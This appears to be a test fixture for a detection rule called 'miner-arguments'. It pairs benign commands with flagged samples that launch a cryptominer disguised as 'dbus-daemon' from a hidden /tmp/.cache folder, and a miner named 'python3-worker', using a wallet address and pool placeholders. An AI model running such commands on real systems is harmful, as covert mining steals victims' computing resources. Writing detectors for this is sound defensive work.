#!/bin/bash
# ok: miner-arguments
grep -rn 'stratum+tcp://' /var/log
# ok: miner-arguments
curl -u user:pass -o out.json https://x.example:8443/report
# ok: miner-arguments
sort -o out.txt -u in.txt

WALLET=46tnJM35e26cuC5pfxbfzzL9HXXTb1GmuULPRCoCDZ5TWxF78nkULNeYzcKcdnBkWDgkvh9iJnwkV5BvaXTdPzaK2LsYf66
cp /tmp/m /tmp/.cache/dbus-daemon
# ruleid: miner-arguments
/tmp/.cache/dbus-daemon -o 203.0.113.9:443 -u $WALLET --tls -k &
# ruleid: miner-arguments
./python3-worker -a rx/0 --url stratum+ssl://pool.invalid:443 --user "$WALLET" --cpu-max-threads-hint=50
